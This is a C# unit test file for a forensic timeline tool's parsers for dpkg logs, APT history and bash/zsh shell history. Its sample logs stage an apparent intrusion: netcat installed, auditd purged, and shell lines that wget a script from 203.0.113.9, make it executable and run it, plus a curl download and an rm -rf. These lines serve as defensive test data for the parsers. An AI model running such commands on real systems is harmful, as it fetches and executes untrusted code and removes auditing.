using EvidenceKit.Timeline.Formats.Dpkg;
using EvidenceKit.Timeline.Formats.Shell;
using EvidenceKit.Timeline.Parsing;
using EvidenceKit.Timeline.Tests.Formats.Support;

namespace EvidenceKit.Timeline.Tests.Formats.Packages;

public sealed class PackageAndShellParserTests
{
    /// <summary>Lines written after the format dpkg(1) documents under "FILES" for /var/log/dpkg.log (our own packages and versions).</summary>
    [Fact]
    public void Dpkg_actions_and_status_changes_read_in_the_host_zone()
    {
        var log = """
            2026-12-01 11:00:00 startup archives unpack
            2026-12-01 11:00:01 install netcat-traditional:amd64 <none> 1.10-47
            2026-12-01 11:00:02 status installed netcat-traditional:amd64 1.10-47
            2026-12-01 11:00:03 conffile /etc/ssh/sshd_config keep
            """;
        var parser = new DpkgLogParser();

        ParserHarness.Fits(parser, "dpkg.log", log).Should().BeGreaterThan(50);
        var sink = ParserHarness.Run(parser, "dpkg.log", log, ParserHarness.Clock(ParserHarness.Berlin));

        sink.Unparsed.Should().BeEmpty();
        sink.Events[1].Time.Should().Be(new DateTimeOffset(2026, 12, 1, 10, 0, 1, TimeSpan.Zero));
        sink.Events[1].Fields["action"].Should().Be("install");
        sink.Events[1].Fields["package"].Should().Be("netcat-traditional:amd64");
        sink.Events[1].Fields["version"].Should().Be("1.10-47");
        sink.Events[2].Fields["status"].Should().Be("installed");
        sink.Events[3].Fields["detail"].Should().Be("/etc/ssh/sshd_config keep");
    }

    /// <summary>A block in the layout APT writes to /var/log/apt/history.log (apt's own history writer; no man page documents it beyond the field names).</summary>
    [Fact]
    public void An_apt_history_block_is_one_event_at_its_start_with_who_asked_and_what_changed()
    {
        var log = """
            Start-Date: 2026-12-01  11:00:00
            Commandline: apt-get install -y netcat-traditional
            Requested-By: alice (1000)
            Install: netcat-traditional:amd64 (1.10-47)
            End-Date: 2026-12-01  11:00:04

            Start-Date: 2026-12-01  11:30:00
            Commandline: apt-get purge -y auditd
            Purge: auditd:amd64 (1:3.0.9-1)
            End-Date: 2026-12-01  11:30:02
            """;
        var parser = new AptHistoryParser();
        var sample = new LogSample("history.log", "/var/log/apt/history.log", System.Text.Encoding.UTF8.GetBytes(log));

        parser.Fits(sample).Should().BeGreaterThan(50);
        var sink = ParserHarness.Run(parser, "history.log", log, ParserHarness.Clock(ParserHarness.Berlin));

        sink.Unparsed.Should().BeEmpty();
        sink.Events.Should().HaveCount(2);
        var install = sink.Events[0];
        install.Time.Should().Be(new DateTimeOffset(2026, 12, 1, 10, 0, 0, TimeSpan.Zero));
        install.Fields["user"].Should().Be("alice");
        install.Fields["uid"].Should().Be("1000");
        install.Fields["install"].Should().Be("netcat-traditional:amd64 (1.10-47)");
        install.Position.Should().Be(1);
        sink.Events[1].Fields["purge"].Should().Be("auditd:amd64 (1:3.0.9-1)");
        sink.Events[1].Message.Should().Be("apt apt-get purge -y auditd (Purge: auditd:amd64 (1:3.0.9-1))");
    }

    /// <summary>bash's history file with HISTTIMEFORMAT set (bash(1), "HISTORY": comment lines with the epoch before each entry) and zsh's EXTENDED_HISTORY form (zshoptions(1)).</summary>
    [Fact]
    public void Shell_history_commands_take_the_time_of_their_timestamp_line_and_untimed_lines_are_unparsed()
    {
        var log = """
            ls -la
            #1764583200
            wget http://203.0.113.9/x.sh
            #1764583260
            chmod +x x.sh
            ./x.sh
            """;
        var parser = new ShellHistoryParser();
        var sink = new CollectingSink();
        var bytes = System.Text.Encoding.UTF8.GetBytes(log);
        var sample = new LogSample(".bash_history", "/home/alice/.bash_history", bytes);

        parser.Fits(sample).Should().BeGreaterThan(0);
        parser.Parse(new LogSource(new ForwardOnlyStream(new MemoryStream(bytes)), sample, ParserHarness.Clock()), sink, CancellationToken.None);

        sink.Unparsed.Should().ContainSingle().Which.Should().Be((1L, "ls -la"));
        sink.Events.Should().HaveCount(3);
        sink.Events[0].Time.Should().Be(new DateTimeOffset(2025, 12, 1, 10, 0, 0, TimeSpan.Zero));
        sink.Events[0].Fields["command"].Should().Be("wget http://203.0.113.9/x.sh");
        sink.Events[0].Fields["user"].Should().Be("alice");
        sink.Events[0].TimeNote.Should().BeNull();
        sink.Events[1].Time.Should().Be(new DateTimeOffset(2025, 12, 1, 10, 1, 0, TimeSpan.Zero));
        sink.Events[2].Time.Should().Be(sink.Events[1].Time);
        sink.Events[2].TimeNote.Should().Be("no time of its own; time of the timestamp line 4 above");
    }

    [Fact]
    public void Zsh_extended_history_entries_carry_their_own_time_and_duration()
    {
        var log = ": 1764583200:3;curl -O http://203.0.113.9/x\n: 1764583205:0;rm -rf /tmp/x\n";

        var sink = ParserHarness.Run(new ShellHistoryParser(), ".zsh_history", log);

        sink.Events.Should().HaveCount(2);
        sink.Events[0].Fields["duration_s"].Should().Be("3");
        sink.Events[1].Time.Should().Be(new DateTimeOffset(2025, 12, 1, 10, 0, 5, TimeSpan.Zero));
        sink.Events[1].Fields["shell"].Should().Be("zsh");
    }
}
